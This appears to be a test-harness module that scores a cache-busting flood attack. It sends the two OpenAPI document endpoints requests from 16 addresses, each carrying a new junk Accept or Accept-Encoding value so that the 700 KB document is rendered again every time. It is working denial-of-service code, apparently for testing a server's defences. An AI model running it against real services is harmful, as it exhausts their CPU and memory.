// (10) Document variants: the OpenAPI document is 700 KB and changes only with the build. If each
// new spelling of Accept or Accept-Encoding is a new output-cache entry, every request with a junk
// value renders it again (milliseconds of CPU and megabytes of garbage), for its size in points.
import { Tally } from '../lib/tally.mjs';
import { attackers, flood } from '../lib/clients.mjs';
import { destroyAgents } from '../lib/http.mjs';

export const meta = {
  key: 'document-variants',
  title: 'Document variants',
  what: '16 addresses × 4 in flight, GET /openapi/v1.json and /openapi/3.0/v1.json with a new junk Accept-Encoding or Accept value each time',
};

export async function attack({ base, deadline }, signal) {
  const tally = new Tally();
  const next = (address, n) => ({
    path: n % 2 ? '/openapi/v1.json' : '/openapi/3.0/v1.json',
    headers: n % 3 ? { 'accept-encoding': `identity, x${address}-${n}` } : { accept: `application/json, x/${address}-${n}` },
  });
  await flood({ base, addresses: attackers(16), perAddress: 4, next, tally, deadline, signal, timeoutMs: 30_000 });
  destroyAgents();
  return tally.summary();
}
